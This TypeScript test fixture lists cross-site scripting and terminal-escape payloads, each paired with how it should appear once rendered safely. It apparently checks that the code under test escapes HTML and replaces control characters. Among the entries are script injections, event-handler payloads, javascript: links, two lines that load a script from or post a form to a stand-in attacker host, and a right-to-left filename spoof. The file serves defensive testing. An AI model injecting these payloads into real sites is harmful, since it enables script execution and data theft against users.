/** Each with what of it a reader sees. */
export const PAYLOADS: Array<[name: string, text: string, seen: string]> = [
  ["a script", "<script>alert(1)</script>", "<script>alert(1)</script>"],
  [
    "an end of the title",
    "</title><script src=//evil.example></script>",
    "</title><script src=//evil.example></script>",
  ],
  ["a handler", `"><img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`],
  ["an attribute", `x" onmouseover="alert(1)" x="`, `x" onmouseover="alert(1)" x="`],
  [
    "an attribute in single quotes",
    "x' onfocus='alert(1)' autofocus='",
    "x' onfocus='alert(1)' autofocus='",
  ],
  ["a link that runs", "javascript:alert(1)", "javascript:alert(1)"],
  ["an entity", "&lt;b&gt; &amp; &#x3c;i&#x3e;", "&lt;b&gt; &amp; &#x3c;i&#x3e;"],
  ["an SVG", "<svg/onload=alert(1)>", "<svg/onload=alert(1)>"],
  [
    "an end of a drawing",
    "</svg></a></table><form action=//evil.example>",
    "</svg></a></table><form action=//evil.example>",
  ],
  ["a comment", "<!--><script>alert(1)</script>-->", "<!--><script>alert(1)</script>-->"],
  ["a template", "${alert(1)} {{alert(1)}}", "${alert(1)} {{alert(1)}}"],
  ["a colour of a terminal", "\u001b[31mred\u001b[0m", "\uFFFD[31mred\uFFFD[0m"],
  ["a title of a terminal", "\u001b]0;owned\u0007", "\uFFFD]0;owned\uFFFD"],
  ["text from right to left", "a\u202etxt.exe", "a\uFFFDtxt.exe"],
  ["a zero", "a\u0000b", "a\uFFFDb"],
  ["half a character", "a\ud800b", "a\uFFFDb"],
];
